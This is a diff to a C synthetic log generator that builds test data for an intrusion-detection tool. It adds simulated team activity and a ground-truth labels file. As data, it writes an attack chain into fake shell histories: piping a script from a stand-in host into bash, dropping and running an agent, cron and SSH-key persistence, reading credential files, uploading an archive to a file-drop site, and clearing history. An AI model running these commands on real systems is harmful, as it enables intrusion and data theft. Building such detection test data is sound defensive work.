@@ -3,7 +3,7 @@
  * arguments always write the same bytes.
  *
  *   vigil-gen scenario DIR [--days N] [--seed N] [--no-intrusion] [--live SECONDS]
- *                          [--scale K] [--from-day N] [--to-day N]
+ *                          [--scale K] [--from-day N] [--to-day N] [--rich]
  *       Writes N days of a normal workload (API traffic, audit and egress
  *       records, ssh logins, sudo, shell work, internet background noise) and,
  *       on the last night, an intrusion in the style of Operation Cloud Hopper:
@@ -17,6 +17,9 @@
  *       workload is always generated (same bytes for the same arguments), but
  *       only days [--from-day, --to-day) are appended: two runs split the
  *       files at a day boundary, e.g. to restart vigil between them.
+ *       --rich adds the normal life of a bigger team (see rich_life). Beside
+ *       the logs, DIR/labels.tsv says which lines are the intrusion's, when
+ *       each step began and ended and which rules detect it (for make eval).
  *   vigil-gen bench DIR [--lines N] [--seed N]
  *       N lines (default 1,000,000) of a realistic mix for throughput runs,
  *       one file per format: DIR/app.log (~150-byte JSON lines, 55%),
@@ -64,22 +67,32 @@ static unsigned rndn(unsigned n)
 #define PICK(arr) (arr[rndn(sizeof(arr) / sizeof(arr[0]))])
 
 /* ---- event list: every line of every file, sorted by time before writing ---- */
-enum sink { SINK_AUTH, SINK_APP, SINK_HIST_ALICE, SINK_HIST_BOB, SINK_HIST_OPS, SINK__COUNT };
+enum sink { SINK_AUTH, SINK_APP, SINK_HIST_ALICE, SINK_HIST_BOB, SINK_HIST_OPS, SINK__FIXED };
+#define SINK_MAX 64        /* the fixed files, then one history per --rich user */
+
+static const char *sink_rel[SINK_MAX] = {
+    "auth.log", "app/api.log", "home/alice/.bash_history", "home/bob/.bash_history",
+    "home/ops-admin/.bash_history",
+};
+static int nsinks = SINK__FIXED;
 
 struct ev {
     int64_t t_us;          /* event time, microseconds */
     uint8_t sink;
     bool attack;           /* part of the intrusion (paced slower live) */
+    int8_t step;           /* the intrusion step it belongs to, -1 = normal life */
     char *text;            /* line(s) including trailing newline */
 };
+
+static int cur_step = -1;  /* set by intrusion() around each step */
 
 static struct ev *evs;
 static size_t nevs, capevs;
 
-static void add(int64_t t_s, int64_t frac_us, enum sink s, bool attack, const char *fmt, ...)
+static void add(int64_t t_s, int64_t frac_us, int s, bool attack, const char *fmt, ...)
     __attribute__((format(printf, 5, 6)));
 
-static void add(int64_t t_s, int64_t frac_us, enum sink s, bool attack, const char *fmt, ...)
+static void add(int64_t t_s, int64_t frac_us, int s, bool attack, const char *fmt, ...)
 {
     char buf[4096];
     va_list ap;
@@ -99,6 +112,7 @@ static void add(int64_t t_s, int64_t frac_us, enum sink s, bool attack, const ch
     evs[nevs].t_us = t_s * 1000000 + frac_us;
     evs[nevs].sink = (uint8_t)s;
     evs[nevs].attack = attack;
+    evs[nevs].step = (int8_t)(attack ? cur_step : -1);
     evs[nevs].text = strdup(buf);
     nevs++;
 }
@@ -138,7 +152,7 @@ static void auth(int64_t t, bool attack, const char *prog, const char *fmt, ...)
         add(t, us, SINK_AUTH, attack, "%s " HOST " %s[%u]: %s\n", when, prog, pid, msg);
 }
 
-static void hist(int64_t t, enum sink s, bool attack, const char *cmd)
+static void hist(int64_t t, int s, bool attack, const char *cmd)
 {
     add(t, 0, s, attack, "#%" PRId64 "\n%s\n", t, cmd);
 }
@@ -157,6 +171,21 @@ static void app_json(int64_t t, bool attack, const char *fmt, ...)
     when[23] = 'Z';   /* millisecond precision, UTC */
     when[24] = 0;
     add(t, us, SINK_APP, attack, "{\"ts\":\"%s\",%s}\n", when, body);
+}
+
+/* Sources of internet guessing, written to the labels: their alerts are
+ * burst reports, judged apart from false alerts. */
+#define BOTS_MAX 4096
+static char *bot_src[BOTS_MAX];
+static unsigned nbots;
+
+static void bot_note(const char *ip)
+{
+    for (unsigned i = 0; i < nbots; i++)
+        if (strcmp(bot_src[i], ip) == 0)
+            return;
+    if (nbots < BOTS_MAX)
+        bot_src[nbots++] = strdup(ip);
 }
 
 /* ---- the normal workload ---- */
@@ -312,6 +341,7 @@ static void normal_day(int day)
         int64_t t = d0 + rndn(DAY);
         char ip[32];
         snprintf(ip, sizeof(ip), "%u.%u.%u.%u", 45 + rndn(150), rndn(256), rndn(256), 1 + rndn(254));
+        bot_note(ip);
         const char *u = PICK(spray_users);
         auth(t, false, "sshd", "Invalid user %s from %s port %u", u, ip, 30000 + rndn(30000));
         auth(t + 1, false, "sshd", "Connection closed by invalid user %s %s port %u [preauth]", u, ip,
@@ -327,6 +357,7 @@ static void intrusion(int day)
     const char *spray = "203.0.113.45";
     int64_t t = d0 + 1 * HOUR + 50 * 60;
 
+    cur_step = 0;
     /* 01:50 password spraying: one source, many users, a few tries each. */
     for (int round = 0; round < 2; round++)
         for (size_t i = 0; i < sizeof(spray_users) / sizeof(*spray_users); i++) {
@@ -341,12 +372,14 @@ static void intrusion(int day)
         }
     auth(t + 2, true, "sshd", "PAM 2 more authentication failures; logname= uid=0 euid=0 tty=ssh ruser= rhost=%s  user=ops-admin", spray);
 
+    cur_step = 1;
     /* 03:10 the stolen password works, from a new place. */
     t = d0 + 3 * HOUR + 10 * 60;
     auth(t - 40, true, "sshd", "Failed password for ops-admin from %s port 51122 ssh2", atk);
     auth(t, true, "sshd", "Accepted password for ops-admin from %s port 51123 ssh2", atk);
     auth(t, true, "sshd", "pam_unix(sshd:session): session opened for user ops-admin(uid=1002) by (uid=0)");
 
+    cur_step = 2;
     static const char *const recon[] = {
         "whoami", "id", "uname -a", "hostname", "cat /etc/passwd", "ip a", "ss -tlnp", "ps aux",
         "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/",
@@ -354,33 +387,42 @@ static void intrusion(int day)
     };
     for (size_t i = 0; i < sizeof(recon) / sizeof(*recon); i++) {
         t += 8 + rndn(20);
+        cur_step = i < 8 ? 2 : i == 8 ? 3 : 4;
         hist(t, SINK_HIST_OPS, true, recon[i]);
     }
+    cur_step = 5;
     /* privilege escalation */
     t += 30;
     hist(t, SINK_HIST_OPS, true, "sudo -i");
     auth(t, true, "sudo", "ops-admin : TTY=pts/3 ; PWD=/home/ops-admin ; USER=root ; COMMAND=/bin/bash");
     auth(t, true, "sudo", "pam_unix(sudo:session): session opened for user root(uid=0) by ops-admin(uid=1002)");
+    cur_step = 6;
     /* credential access */
     t += 20;
     hist(t, SINK_HIST_OPS, true, "cat ~/.aws/credentials");
     t += 15;
     hist(t, SINK_HIST_OPS, true, "cat /etc/shadow");
+    cur_step = 7;
     /* download and run a remote access tool */
     t += 40;
     hist(t, SINK_HIST_OPS, true, "curl -s http://198.51.100.7/i.sh | bash");
     t += 25;
+    cur_step = 8;
     hist(t, SINK_HIST_OPS, true, "wget -q http://198.51.100.7/agent -O /dev/shm/.agent");
     t += 5;
     hist(t, SINK_HIST_OPS, true, "chmod +x /dev/shm/.agent && /dev/shm/.agent &");
+    cur_step = 9;
     /* persistence */
     t += 30;
     hist(t, SINK_HIST_OPS, true, "(crontab -l; echo '*/5 * * * * /dev/shm/.agent') | crontab -");
     t += 20;
+    cur_step = 10;
     hist(t, SINK_HIST_OPS, true, "echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHx attacker@kali' >> ~/.ssh/authorized_keys");
     t += 20;
+    cur_step = 11;
     auth(t, true, "useradd", "new user: name=svc-backup, UID=1005, GID=1005, home=/home/svc-backup, shell=/bin/bash, from=/dev/pts/3");
     auth(t + 2, true, "usermod", "add 'svc-backup' to group 'sudo'");
+    cur_step = 12;
     /* API abuse with the stolen identity */
     static const char *const api[] = { "ListUsers", "ListSecrets", "GetSecretValue", "CreateAccessKey",
                                        "PutUserPolicy", "ListBuckets" };
@@ -394,11 +436,14 @@ static void intrusion(int day)
         app_json(t, true, "\"identity\":\"ops-admin\",\"action\":\"GetSecretValue\",\"src_ip\":\"%s\","
                  "\"result\":\"AccessDenied\",\"resource\":\"prod/db/%d\"", atk, i);
     }
+    cur_step = 13;
     /* lateral movement */
     t += 60;
     hist(t, SINK_HIST_OPS, true, "ssh 10.0.3.17");
     t += 30;
+    cur_step = 14;
     hist(t, SINK_HIST_OPS, true, "scp /dev/shm/.agent db-2.internal:/tmp/");
+    cur_step = 15;
     /* command and control: a beacon every ~60 s with +-10% jitter */
     int64_t bt = t;
     for (int i = 0; i < 40; i++) {
@@ -406,22 +451,408 @@ static void intrusion(int day)
         app_json(bt, true, "\"dst_host\":\"update-check.cdn-g00gle.com\",\"dst_port\":443,\"bytes_out\":%u,\"bytes_in\":%u",
                  300 + rndn(60), 500 + rndn(100));
     }
+    cur_step = 16;
     /* collection and exfiltration */
     t += 600;
     hist(t, SINK_HIST_OPS, true, "tar czf /dev/shm/.d.tgz /var/lib/shop/data /etc/shop");
     t += 40;
     hist(t, SINK_HIST_OPS, true, "zip -P hunter2 -r /dev/shm/.x.zip /home/ops-admin/exports");
     t += 40;
+    cur_step = 17;
     hist(t, SINK_HIST_OPS, true, "curl -s -T /dev/shm/.d.tgz https://files.transfer-drop.io/upload");
     app_json(t + 1, true, "\"dst_host\":\"files.transfer-drop.io\",\"dst_port\":443,\"bytes_out\":%u,\"bytes_in\":512",
              850000000u);
     app_json(t + 2, true, "\"level\":\"info\",\"msg\":\"bulk export of 182000 customer records by ops-admin\",\"user\":\"ops-admin\",\"bytes\":412000000");
+    cur_step = 18;
     /* defense evasion */
     t += 30;
     hist(t, SINK_HIST_OPS, true, "history -c");
     t += 5;
     hist(t, SINK_HIST_OPS, true, "unset HISTFILE");
     auth(t + 60, true, "sshd", "pam_unix(sshd:session): session closed for user ops-admin");
+    cur_step = -1;
+}
+
+
+/* ---- --rich: the normal life of a bigger team ----
+ * On top of the classic workload: 12-22 people (developers, admins, new hires
+ * who start mid-week), trips from hotels, phones and VPNs (a new network each
+ * time), admins on call at night, copies among internal hosts with scp and
+ * rsync, CI identities that call new actions after a release, password
+ * rotation with chpasswd, cron edits, new SaaS destinations, and bots that
+ * guess common names all day from many networks and from shared NAT
+ * addresses that people also log in from. Who does what, when and from where
+ * comes from the seed, so each seed is a different week. */
+enum role { ROLE_DEV, ROLE_ADMIN };
+
+struct person {
+    char name[24];
+    enum role role;
+    int sink;
+    char office[24], home[24];
+    unsigned uid, start_day, key;
+};
+
+#define PEOPLE_MAX 24
+static struct person people[PEOPLE_MAX];
+static unsigned npeople;
+
+static const char *const name_pool[] = {
+    "carol", "dave", "erin", "frank", "grace", "heidi", "ivan", "judy", "kofi", "lena", "mei",
+    "niaj", "olivia", "omar", "peggy", "priya", "rupert", "sybil", "trent", "victor", "walter",
+    "yuki", "zoe", "hana",
+};
+static const char *const internal_hosts[] = {
+    "backup-1", "build-1", "db-1.internal", "db-2.internal", "app-2.internal", "10.0.3.21",
+    "monitor-1", "build-2",
+};
+static const char *const rich_dev_cmds[] = {
+    "git status", "git pull --rebase", "git push origin HEAD", "make -j4", "make test", "ls -la",
+    "cd ~/src/shop", "vim app/orders.py", "kubectl get pods -n shop", "docker ps",
+    "docker build -t shop-api:dev .", "grep -rn TODO app/", "less /var/log/app/api.log",
+    "python3 -m pytest -q", "git log --oneline -5", "tail -f /var/log/app/api.log", "htop",
+    "df -h", "npm ci", "npm run build", "pip install -r requirements.txt", "go test ./...",
+    "curl -s https://api.internal/healthz | jq .", "ssh build-1", "journalctl --user -n 50",
+    "kubectl describe pod api-7d9f -n shop", "git checkout -b fix/cart-total", "find . -name '*.pyc' -delete",
+    "tar czf /tmp/logs-$(date +%F).tgz /var/log/app", "psql -h db-1.internal -U shop -c 'select 1'",
+    "curl -sO https://github.com/cli/cli/releases/download/v2.40.0/gh_2.40.0_linux_amd64.tar.gz",
+    "ps aux | grep api", "env | grep SHOP_", "whoami", "ip a", "cat /etc/os-release",
+};
+static const char *const rich_admin_cmds[] = {
+    "sudo systemctl restart shop-api", "sudo journalctl -u shop-api --since today",
+    "kubectl get nodes", "df -h", "free -m", "sudo apt-get update", "uptime", "ssh bastion.internal",
+    "kubectl rollout status deploy/api -n shop", "ls /etc/shop", "sudo systemctl status nginx",
+    "sudo tail -n 100 /var/log/nginx/error.log", "sudo ss -tlnp", "sudo lsof -i :443",
+    "sudo apt-get upgrade -y", "sudo needrestart -r l", "crontab -l", "sudo crontab -u backup -l",
+    "sudo cat /etc/sudoers.d/ops", "id", "last -n 20", "sudo du -sh /var/lib/docker",
+};
+static const char *const bot_names[] = {
+    "admin", "test", "oracle", "postgres", "ubuntu", "user", "guest", "ftp", "pi", "git",
+    "deploy", "jenkins", "support", "root", "mysql", "hadoop", "www-data", "minecraft", "ansible",
+    "centos", "ec2-user", "debian", "dev", "tomcat",
+};
+static const char *const console_actions[] = {
+    "ListUsers", "GetRole", "ListRoles", "DescribeSecurityGroups", "ListAccessKeys",
+    "GetAccountSummary", "DescribeVpcs", "ListPolicies", "GetBucketPolicy",
+};
+static const char *const ci_usual[] = { "GetObject", "PutObject", "DescribeServices", "UpdateService",
+                                        "GetAuthorizationToken" };
+static const char *const ci_release[] = {
+    "RegisterTaskDefinition", "CreateInvalidation", "PutParameter", "UpdateFunctionCode",
+    "CreateLogGroup", "TagResource", "PublishLayerVersion", "PutRetentionPolicy",
+};
+static const char *const saas_new[] = {
+    "api.datadoghq.com", "sentry.io", "api.github.com", "registry.npmjs.org", "pypi.org",
+    "objects.githubusercontent.com", "api.pagerduty.com", "login.microsoftonline.com",
+};
+static const char *const fps[] = { "dXNlci1rZXktZmluZ2VycHJpbnQtZm9yLWRldg", "a2V5LW9mLXRoZS10ZWFt",
+                                   "bGFwdG9wLWtleS0yMDI2", "eXViaWtleS1mb3Itc3Nv" };
+
+static void rand_public_ip(char *out, size_t cap)
+{
+    static const unsigned firsts[] = { 31, 37, 46, 62, 77, 78, 85, 91, 109, 141, 176, 178, 185, 188, 193, 212, 217 };
+    snprintf(out, cap, "%u.%u.%u.%u", PICK(firsts), rndn(256), rndn(256), 1 + rndn(254));
+}
+
+/* A network a person is on while away: hotel wifi, a phone's carrier NAT or
+ * a VPN exit never used before. */
+static void trip_ip(char *out, size_t cap)
+{
+    unsigned k = rndn(3);
+    if (k == 0)
+        rand_public_ip(out, cap);
+    else if (k == 1)
+        snprintf(out, cap, "100.%u.%u.%u", 64 + rndn(64), rndn(256), 1 + rndn(254));
+    else
+        snprintf(out, cap, "10.8.%u.%u", 1 + rndn(250), 2 + rndn(250));
+}
+
+static void people_init(int days)
+{
+    static const struct { const char *name; enum role role; int sink; } fixed[] = {
+        { "alice", ROLE_DEV, SINK_HIST_ALICE }, { "bob", ROLE_DEV, SINK_HIST_BOB },
+        { "ops-admin", ROLE_ADMIN, SINK_HIST_OPS },
+    };
+    unsigned want = 12 + rndn(11);
+    bool used[sizeof(name_pool) / sizeof(*name_pool)] = { false };
+    for (unsigned i = 0; i < want && i < PEOPLE_MAX; i++) {
+        struct person *p = &people[npeople];
+        memset(p, 0, sizeof(*p));
+        if (i < 3) {
+            snprintf(p->name, sizeof(p->name), "%s", fixed[i].name);
+            p->role = fixed[i].role;
+            p->sink = fixed[i].sink;
+        } else {
+            unsigned k;
+            do
+                k = rndn(sizeof(name_pool) / sizeof(*name_pool));
+            while (used[k]);
+            used[k] = true;
+            snprintf(p->name, sizeof(p->name), "%s", name_pool[k]);
+            p->role = rndn(4) == 0 ? ROLE_ADMIN : ROLE_DEV;
+            if (nsinks >= SINK_MAX)
+                break;
+            char rel[96];
+            snprintf(rel, sizeof(rel), "home/%s/.bash_history", p->name);
+            sink_rel[nsinks] = strdup(rel);
+            p->sink = nsinks++;
+            /* new hires: their first day is mid-week */
+            if (rndn(6) == 0 && days > 3)
+                p->start_day = 2 + rndn((unsigned)days - 3);
+        }
+        p->uid = 1000 + i;
+        p->key = rndn(4);
+        snprintf(p->office, sizeof(p->office), "10.%u.%u.%u", rndn(2) ? 0 : 8, rndn(3), 2 + rndn(250));
+        rand_public_ip(p->home, sizeof(p->home));
+        npeople++;
+    }
+}
+
+static void login(int64_t t, const struct person *p, const char *ip)
+{
+    auth(t, false, "sshd", "Accepted publickey for %s from %s port %u ssh2: ED25519 SHA256:%s", p->name,
+         ip, 40000 + rndn(20000), fps[p->key]);
+    auth(t, false, "sshd", "pam_unix(sshd:session): session opened for user %s(uid=%u) by (uid=0)",
+         p->name, p->uid);
+}
+
+/* A command in a person's history, and sudo's line for it. */
+static void run(int64_t t, const struct person *p, const char *cmd, const char *sudo_cmd)
+{
+    hist(t, p->sink, false, cmd);
+    if (sudo_cmd)
+        auth(t, false, "sudo", "%s : TTY=pts/%u ; PWD=/home/%s ; USER=root ; COMMAND=%s", p->name,
+             rndn(8), p->name, sudo_cmd);
+}
+
+static const char *sudo_of(const char *cmd, char *buf, size_t cap)
+{
+    if (strncmp(cmd, "sudo ", 5) != 0)
+        return NULL;
+    const char *rest = cmd + 5;
+    const char *sp = strchr(rest, ' ');
+    size_t n = sp ? (size_t)(sp - rest) : strlen(rest);
+    const char *dir = strncmp(rest, "apt-get", 7) == 0 || strncmp(rest, "du", 2) == 0 ||
+                              strncmp(rest, "needrestart", 11) == 0 || strncmp(rest, "lsof", 4) == 0
+                          ? "/usr/bin/" : strncmp(rest, "ss", 2) == 0 ? "/usr/bin/" : "/usr/bin/";
+    snprintf(buf, cap, "%s%.*s%s", dir, (int)n, rest, sp ? sp : "");
+    return buf;
+}
+
+static void workday(const struct person *p, int day, int64_t d0, const char *ip, int64_t t)
+{
+    char sb[256], c[256];
+    login(t, p, ip);
+    const char *const *cmds = p->role == ROLE_ADMIN ? rich_admin_cmds : rich_dev_cmds;
+    unsigned ncmds = p->role == ROLE_ADMIN ? sizeof(rich_admin_cmds) / sizeof(*rich_admin_cmds)
+                                           : sizeof(rich_dev_cmds) / sizeof(*rich_dev_cmds);
+    unsigned n = 8 + rndn(25);
+    int64_t tt = t + 30;
+    for (unsigned k = 0; k < n; k++) {
+        tt += 30 + rndn(900);
+        const char *cmd = cmds[rndn(ncmds)];
+        run(tt, p, cmd, sudo_of(cmd, sb, sizeof(sb)));
+    }
+    if (p->role == ROLE_ADMIN) {
+        /* copies among internal hosts */
+        unsigned ncp = rndn(4);
+        for (unsigned k = 0; k < ncp; k++) {
+            tt += 60 + rndn(600);
+            const char *h = PICK(internal_hosts);
+            switch (rndn(5)) {
+            case 0: snprintf(c, sizeof(c), "scp /var/backups/shop-%u.tgz %s:/srv/backups/", 20261100 + rndn(40), h); break;
+            case 1: snprintf(c, sizeof(c), "rsync -az /etc/shop/ %s:/etc/shop/", h); break;
+            case 2: snprintf(c, sizeof(c), "scp %s:/var/log/syslog /tmp/syslog-%s", h, h); break;
+            case 3: snprintf(c, sizeof(c), "rsync -av --progress ./release/ %s:/srv/release/", h); break;
+            default: snprintf(c, sizeof(c), "ssh %s", h); break;
+            }
+            run(tt, p, c, NULL);
+        }
+        /* cron edits */
+        if (rndn(5) == 0) {
+            tt += 120;
+            switch (rndn(3)) {
+            case 0: run(tt, p, "crontab -e", NULL); break;
+            case 1: run(tt, p, "sudo crontab -u backup -e", "/usr/bin/crontab -u backup -e"); break;
+            default:
+                snprintf(c, sizeof(c), "(crontab -l; echo '%u %u * * * /usr/local/bin/%s') | crontab -",
+                         rndn(60), rndn(6), rndn(2) ? "backup.sh" : "rotate-logs.sh");
+                run(tt, p, c, NULL);
+            }
+        }
+        /* a first console action now and then */
+        if (rndn(6) == 0)
+            app_json(tt + 30, false,
+                     "\"identity\":\"%s\",\"action\":\"%s\",\"src_ip\":\"%s\",\"result\":\"success\"",
+                     p->name, PICK(console_actions), ip);
+    } else if (rndn(4) == 0) {
+        tt += 60 + rndn(600);
+        snprintf(c, sizeof(c), "scp dist/shop-%u.tar.gz %s:/tmp/", rndn(100), rndn(2) ? "build-1" : "build-2");
+        run(tt, p, c, NULL);
+    }
+    for (unsigned k = 0, m = 2 + rndn(6); k < m; k++)
+        app_json(t + 120 + rndn(6 * HOUR), false,
+                 "\"identity\":\"%s\",\"action\":\"%s\",\"src_ip\":\"%s\",\"result\":\"success\"", p->name,
+                 rndn(2) ? "GetObject" : "ListBucket", ip);
+    auth(d0 + 17 * HOUR + rndn(2 * HOUR), false, "sshd",
+         "pam_unix(sshd:session): session closed for user %s", p->name);
+    (void)day;
+}
+
+static void rich_bots(int64_t d0, const char *const nat[3])
+{
+    unsigned episodes = 20 + rndn(40);
+    for (unsigned e = 0; e < episodes; e++) {
+        char ip[48];
+        unsigned k = rndn(10);
+        if (k == 0)
+            snprintf(ip, sizeof(ip), "%s", nat[rndn(3)]);
+        else if (k == 1)
+            snprintf(ip, sizeof(ip), "2a0%u:%x:%x::%x", 1 + rndn(9), rndn(65536), rndn(65536), 1 + rndn(65535));
+        else
+            rand_public_ip(ip, sizeof(ip));
+        int64_t t = d0 + rndn(DAY);
+        unsigned tries = 1 + (rndn(3) ? rndn(4) : rndn(30));
+        bot_note(ip);
+        for (unsigned i = 0; i < tries; i++) {
+            t += 1 + rndn(8);
+            const char *u = PICK(bot_names);
+            unsigned port = 30000 + rndn(30000);
+            if (strcmp(u, "root") == 0 || strcmp(u, "deploy") == 0 || strcmp(u, "git") == 0)
+                auth(t, false, "sshd", "Failed password for %s from %s port %u ssh2", u, ip, port);
+            else {
+                auth(t, false, "sshd", "Invalid user %s from %s port %u", u, ip, port);
+                auth(t, false, "sshd", "Failed password for invalid user %s from %s port %u ssh2", u, ip, port);
+            }
+            auth(t + 1, false, "sshd", "Connection closed by %s %s port %u [preauth]",
+                 strcmp(u, "root") == 0 ? "authenticating user root" : "invalid user", ip, port);
+        }
+    }
+}
+
+static void rich_life(int days)
+{
+    people_init(days);
+    char nat[3][24];
+    const char *natp[3];
+    for (int i = 0; i < 3; i++) {
+        snprintf(nat[i], sizeof(nat[i]), "100.%u.%u.%u", 64 + rndn(64), rndn(256), 1 + rndn(254));
+        natp[i] = nat[i];
+    }
+    /* trips: per person per week, a few days from a new network */
+    int trip_from[PEOPLE_MAX], trip_to[PEOPLE_MAX];
+    char trip_net[PEOPLE_MAX][24];
+    unsigned oncall = rndn(npeople);
+    int ci_released = 0;
+    bool ci_used[sizeof(ci_release) / sizeof(*ci_release)] = { false };
+    bool saas_used[sizeof(saas_new) / sizeof(*saas_new)] = { false };
+    for (int day = 0; day < days; day++) {
+        int64_t d0 = START_EPOCH + day * DAY;
+        bool weekday = day % 7 < 5;
+        normal_day(day);
+        if (day % 7 == 0)
+            for (unsigned i = 0; i < npeople; i++) {
+                trip_from[i] = trip_to[i] = -1;
+                if (rndn(3) == 0) {
+                    trip_from[i] = day + (int)rndn(5);
+                    trip_to[i] = trip_from[i] + 1 + (int)rndn(3);
+                    /* a phone on a carrier NAT is sometimes a bot's address too */
+                    if (rndn(4) == 0)
+                        snprintf(trip_net[i], sizeof(trip_net[i]), "%s", nat[rndn(3)]);
+                    else
+                        trip_ip(trip_net[i], sizeof(trip_net[i]));
+                }
+            }
+        for (unsigned i = 3; i < npeople; i++) {
+            const struct person *p = &people[i];
+            if ((unsigned)day < p->start_day || !weekday || rndn(10) == 0)
+                continue;
+            bool away = day >= trip_from[i] && day < trip_to[i];
+            int64_t t = d0 + 8 * HOUR + rndn(150 * 60);
+            if (away && rndn(2))
+                t = d0 + 19 * HOUR + rndn(3 * HOUR);   /* evenings at the hotel */
+            workday(p, day, d0, away ? trip_net[i] : p->office, t);
+        }
+        /* the old three also travel */
+        for (unsigned i = 0; i < 3 && i < npeople; i++)
+            if (weekday && day >= trip_from[i] && day < trip_to[i])
+                login(d0 + 20 * HOUR + rndn(2 * HOUR), &people[i], trip_net[i]);
+        /* on call: one admin each week, paged some nights */
+        if (day % 7 == 0) {
+            unsigned tries = 0;
+            do
+                oncall = rndn(npeople);
+            while (people[oncall].role != ROLE_ADMIN && ++tries < 50);
+        }
+        if (rndn(10) < 4) {
+            const struct person *p = &people[oncall];
+            int64_t t = d0 + 30 * 60 + rndn(4 * HOUR);
+            login(t, p, p->home);
+            run(t + 60, p, "uptime", NULL);
+            run(t + 90, p, "sudo journalctl -u shop-api -n 200", "/usr/bin/journalctl -u shop-api -n 200");
+            run(t + 200, p, "kubectl get pods -n shop", NULL);
+            run(t + 260, p, "sudo systemctl restart shop-api", "/usr/bin/systemctl restart shop-api");
+            auth(t + 900, false, "sshd", "pam_unix(sshd:session): session closed for user %s", p->name);
+        }
+        /* password rotation and account upkeep by an admin, about weekly */
+        if (weekday && rndn(5) == 0) {
+            const struct person *p = &people[oncall];
+            int64_t t = d0 + 11 * HOUR + rndn(4 * HOUR);
+            char c[256], pw[16];
+            static const char al[] = "abcdefghjkmnpqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789!%";
+            for (int k = 0; k < 12; k++)
+                pw[k] = al[rndn(sizeof(al) - 1)];
+            pw[12] = 0;
+            switch (rndn(3)) {
+            case 0:
+                snprintf(c, sizeof(c), "echo '%s:%s' | sudo chpasswd", rndn(2) ? "svc-report" : "backup2", pw);
+                run(t, p, c, "/usr/sbin/chpasswd");
+                break;
+            case 1:
+                run(t, p, "sudo passwd svc-batch", "/usr/bin/passwd svc-batch");
+                auth(t + 20, false, "passwd", "pam_unix(passwd:chauthtok): password changed for svc-batch");
+                break;
+            default:
+                snprintf(c, sizeof(c), "echo -e \"Password%u\\n%s\\n%s\" | passwd", rndn(100), pw, pw);
+                run(t, p, c, NULL);
+                auth(t + 1, false, "passwd", "pam_unix(passwd:chauthtok): password changed for %s", p->name);
+            }
+        }
+        /* CI: usual calls all day; a release now and then brings new ones */
+        for (int64_t t = d0 + rndn(1800); t < d0 + DAY; t += 1800 + rndn(1800))
+            app_json(t, false,
+                     "\"identity\":\"ci-deploy\",\"action\":\"%s\",\"src_ip\":\"10.3.0.%u\",\"result\":\"success\"",
+                     PICK(ci_usual), 5 + rndn(3));
+        if (weekday && rndn(3) == 0 && ci_released < 6) {
+            int64_t t = d0 + 14 * HOUR + rndn(3 * HOUR);
+            for (unsigned k = 0, m = 1 + rndn(2); k < m; k++) {
+                unsigned a = rndn(sizeof(ci_release) / sizeof(*ci_release));
+                ci_used[a] = true;
+                for (int r = 0; r < 3; r++)
+                    app_json(t + k * 30 + r * 5, false,
+                             "\"identity\":\"ci-deploy\",\"action\":\"%s\",\"src_ip\":\"10.3.0.5\",\"result\":\"success\"",
+                             ci_release[a]);
+            }
+            ci_released++;
+            /* the release also talks to a new service */
+            unsigned s = rndn(sizeof(saas_new) / sizeof(*saas_new));
+            saas_used[s] = true;
+            for (int64_t te = t + 60; te < d0 + DAY; te += 600 + rndn(3000))
+                app_json(te, false, "\"dst_host\":\"%s\",\"dst_port\":443,\"bytes_out\":%u,\"bytes_in\":%u",
+                         saas_new[s], 300 + rndn(4000), 500 + rndn(20000));
+        }
+        for (size_t s = 0; s < sizeof(saas_new) / sizeof(*saas_new); s++)
+            if (saas_used[s] && rndn(2))
+                app_json(d0 + rndn(DAY), false,
+                         "\"dst_host\":\"%s\",\"dst_port\":443,\"bytes_out\":%u,\"bytes_in\":%u", saas_new[s],
+                         300 + rndn(4000), 500 + rndn(20000));
+        /* a nightly backup upload, bigger than the API's calls */
+        app_json(d0 + 2 * HOUR + rndn(1800), false,
+                 "\"dst_host\":\"s3.eu-west-1.amazonaws.com\",\"dst_port\":443,\"bytes_out\":%u,\"bytes_in\":%u",
+                 40000000 + rndn(30000000), 2000 + rndn(2000));
+        rich_bots(d0, natp);
+    }
+    (void)ci_used;
 }
 
 static int ev_cmp(const void *a, const void *b)
@@ -445,17 +876,104 @@ static int mkdirs(const char *path)
     return mkdir(buf, 0755) < 0 && errno != EEXIST ? -1 : 0;
 }
 
+/* What each intrusion step is, for the labels beside the logs: the rules
+ * (globs) that count as detecting it and the entities it acts as. */
+static const struct step_def {
+    const char *name, *rules, *entity;
+} steps[] = {
+    { "password-spray", "auth.spray|auth.bruteforce|auth.guess*", "src_ip=203.0.113.45" },
+    { "login-stolen-password", "auth.login|auth.success_after_failures", "user=ops-admin" },
+    { "recon-commands", "shell.recon*", "user=ops-admin" },
+    { "cloud-metadata", "shell.cloud_metadata", "user=ops-admin" },
+    { "key-search", "shell.cred*|shell.recon*", "user=ops-admin" },
+    { "sudo-root-shell", "auth.sudo*|shell.sudo*", "user=ops-admin" },
+    { "credential-files", "shell.cred*", "user=ops-admin" },
+    { "download-exec", "shell.download_exec", "user=ops-admin" },
+    { "drop-and-run", "shell.drop_exec|shell.download*|shell.tmp*", "user=ops-admin" },
+    { "persist-cron", "shell.persist*", "user=ops-admin" },
+    { "persist-ssh-key", "shell.persist_ssh_key", "user=ops-admin" },
+    { "backdoor-account", "auth.account_created|auth.privileged_group_add", "user=svc-backup" },
+    { "cloud-api-abuse", "audit.*", "identity=ops-admin" },
+    { "lateral-ssh", "shell.lateral*", "user=ops-admin" },
+    { "tool-transfer", "shell.lateral*|shell.tool_transfer", "user=ops-admin" },
+    { "beacon", "egress.beacon|egress.lookalike", "dst_host=update-check.cdn-g00gle.com" },
+    { "staging", "shell.archive*|shell.collect*|shell.staging*", "user=ops-admin" },
+    { "exfiltration", "egress.exfil|shell.exfil*|app.user_volume",
+      "user=ops-admin|dst_host=files.transfer-drop.io" },
+    { "defense-evasion", "shell.history*|shell.hist*", "user=ops-admin" },
+};
+#define NSTEPS (sizeof(steps) / sizeof(steps[0]))
+
+static size_t count_lines(const char *t)
+{
+    size_t n = 0;
+    for (; *t; t++)
+        n += *t == '\n';
+    return n;
+}
+
+/* DIR/labels.tsv: the ground truth of what was written, for `make eval`.
+ * Lines per file (all, intrusion), each step's first and last event time,
+ * the rules that detect it and its entities, and every entity of the
+ * intrusion (an alert naming none of them is a false alert). */
+static int write_labels(const char *dir, uint64_t seed, int days, bool rich)
+{
+    char p[4096];
+    snprintf(p, sizeof(p), "%s/labels.tsv", dir);
+    FILE *f = fopen(p, "w");
+    if (!f)
+        return -1;
+    size_t all[SINK_MAX] = { 0 }, atk[SINK_MAX] = { 0 };
